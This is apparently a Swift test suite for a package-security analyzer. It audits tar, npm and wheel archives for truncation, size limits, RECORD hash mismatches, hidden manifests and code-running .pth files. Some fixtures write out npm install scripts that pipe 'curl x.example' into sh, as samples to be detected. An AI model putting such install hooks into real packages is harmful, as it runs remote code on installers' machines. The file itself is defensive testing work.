import Compression
import Cryptography
import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("Archives")
struct ArchiveTests {
    @Test("the audit of a tar archive does not depend on how its bytes are cut")
    func everyBoundary() throws {
        var tar = TarBuilder()
        tar.addPax([("path", "package/long"), ("size", "3")])
        tar.add(.init("package/short", content: [1, 2, 3]))
        tar.add(.init("././@LongLink", type: "L", content: Array("package/gnu\0".utf8)))
        tar.add(.init("package/cut", type: "2", linkName: "long"))
        tar.add(.init("package/dir/", type: "5"))
        let bytes = tar.finished() + [1]
        let whole = audit([bytes])
        #expect(
            whole.members.map { String(decoding: $0.name, as: UTF8.self) } == [
                "package/long", "package/gnu", "package/dir/",
            ])
        #expect(whole.observations == [.tarAfterEnd])
        for cut in stride(from: 0, through: bytes.count, by: 1) {
            let parts = audit([Array(bytes[..<cut]), Array(bytes[cut...])])
            #expect(parts.members == whole.members && parts.observations == whole.observations, "cut at \(cut)")
        }
        #expect(audit(bytes.map { [$0] }).members == whole.members)
    }

    private func audit(_ pieces: [[UInt8]]) -> (members: [ArchiveMember], observations: Set<Observation>) {
        var audit = TarAudit()
        var members: [ArchiveMember] = []
        for piece in pieces {
            unsafe piece.withUnsafeBytes { unsafe audit.consume($0) }
            while let member = audit.takeMember() { members.append(member) }
        }
        return (members, audit.observations)
    }

    @Test("damaged archives of every kind give a report, the same one each time")
    func mutations() throws {
        var wheel = WheelBuilder()
        let seeds = [
            try npmScript("curl x.example | sh"), try sdist(), try wheel.artifact(),
            try npmTarball { $0.add(.init("package/a.tgz", content: StoredGzip.member(TarBuilder().finished()))) },
        ]
        var random = SeededRandom()
        for round in 0..<400 {
            var artifact = seeds[round % seeds.count]
            for _ in 0..<Int.random(in: 1...6, using: &random) {
                let index = Int.random(in: 0..<artifact.bytes.count, using: &random)
                artifact.bytes[index] = UInt8.random(in: 0...255, using: &random)
            }
            if round % 3 == 0 { artifact.bytes.removeLast(Int.random(in: 0..<artifact.bytes.count, using: &random)) }
            let first = artifact.report()
            #expect(first == artifact.report(), "seed \(random.seed), round \(round)")
        }
    }

    @Test("an archive cut anywhere is never clean")
    func truncated() throws {
        let whole = try npmTarball { $0.addFile("package/index.js", "module.exports = 1\n") }
        for end in 0..<whole.bytes.count {
            let cut = Artifact(bytes: Array(whole.bytes[..<end]), context: whole.context)
            #expect(cut.report().verdict != .clean, "cut at \(end)")
        }
    }

    @Test("a file too large to hold is still unpacked, hashed and compared with RECORD", arguments: [true, false])
    func largeMember(_ isRight: Bool) throws {
        var limits = AnalysisLimits.standard
        limits.fileBytes = 4096
        let content = (0..<300_000).map { UInt8(truncatingIfNeeded: $0 / 7 ^ $0) }
        var wheel = WheelBuilder()
        var member = ZipBuilder.Member("acme_box/data.bin", content, deflatedAs: Gzip.compress(content, level: 6))
        member.method = 8
        wheel.add(member, isListed: false)
        wheel.addDigest(of: isRight ? content : [1], for: "acme_box/data.bin")
        wheel.add(ZipBuilder.Member("acme_box/stored.bin", content))
        let found = try wheel.artifact().observations(limits: limits)
        #expect(found == (isRight ? [] : ["record-hash"]))
    }

    @Test("unpacked bytes count for all members together, also for those that are too large to hold")
    func totalBytes() throws {
        var limits = AnalysisLimits.standard
        (limits.fileBytes, limits.totalBytes) = (100, 5000)
        var wheel = WheelBuilder()
        wheel.add("acme_box/a.txt", spaces(3000))
        wheel.add("acme_box/b.txt", spaces(3000))
        #expect(try wheel.artifact().observations(limits: limits).contains("too-many-bytes"))
        #expect(
            try npmTarball { $0.addFile("package/a", spaces(8000)) }.observations(limits: limits) == ["too-many-bytes"])
    }

    @Test(
        "every strong digest of RECORD is compared, also of files that are too large to hold", arguments: [true, false])
    func strongRecord(_ isRight: Bool) throws {
        var limits = AnalysisLimits.standard
        limits.fileBytes = 4096
        var wheel = WheelBuilder()
        for (name, content) in [("acme_box/a.txt", spaces(10)), ("acme_box/b.txt", spaces(9000))] {
            wheel.add(name, content, isListed: false)
            let text = Array((isRight ? content : "other").utf8)
            let digest = Base64.encodeURL(SHA512Digest(hashing: text).bytes).prefix { $0 != "=" }
            wheel.addRow("\(name),sha512=\(digest),1")
        }
        let hashFindings = try wheel.artifact().report(limits: limits).findings.filter {
            $0.finding.evidence == "record-hash"
        }
        #expect(hashFindings.count == (isRight ? 0 : 2))
    }

    @Test("what a cut-off analysis did not reach is not called missing")
    func incomplete() throws {
        var limits = AnalysisLimits.standard
        limits.entries = 1
        var wheel = WheelBuilder()
        let found = try wheel.artifact().observations(limits: limits)
        #expect(found == ["too-many-entries"])
    }

    @Test("npm drops the first component whatever it is, so a second manifest cannot hide")
    func hiddenManifest() throws {
        for name in ["./package.json", "x/package.json", "package//package.json", "package/./package.json"] {
            let artifact = try npmTarball { $0.addFile(name, #"{"scripts":{"install":"curl x.example|sh"}}"#) }
            let found = artifact.observations()
            #expect(found.contains("duplicate-manifest"), "\(name): \(found)")
            #expect(found.contains("script-pipes-download-to-interpreter"), "\(name): \(found)")
        }
    }

    @Test("tar archives compressed with bzip2 or xz, or not at all, are read")
    func plainTar() throws {
        var tar = TarBuilder()
        tar.addFile("package/package.json", #"{"name":"acme-box","version":"1.2.3"}"#)
        #expect(try npmArtifact(tar.finished()).report().findings == [])
        #expect(try npmArtifact([0x42, 0x5A, 0x68, 0x39, 1, 2, 3]).observations() == ["archive-unreadable"])
        #expect(try npmArtifact([0xFD, 0x37, 0x7A, 0x58, 0x5A, 0, 1]).observations() == ["archive-unreadable"])
    }

    @Test("a wheel that starts with other bytes is still opened by its end")
    func prefixedWheel() throws {
        var wheel = WheelBuilder()
        wheel.add("box.pth", "import box\n")
        let found = try wheel.artifact { $0.prefix = Array("#!/bin/sh\n".utf8) }.observations()
        #expect(found == ["zip-layout", "pth-runs-code-in-wheel"])
    }

    @Test("ordinary pax headers of packaging tools are no contradiction")
    func ordinaryPax() throws {
        let artifact = try npmTarball { tar in
            tar.addPax([("mtime", "1.5"), ("path", "package/\(String(repeating: "n", count: 120))"), ("size", "1")])
            tar.add(.init("package/\(String(repeating: "n", count: 90))", content: [1]))
            tar.addPax([("comment", "0123456789abcdef")], type: "g")
            tar.addFile("package/b", "b")
        }
        #expect(artifact.report().findings == [])
    }
}
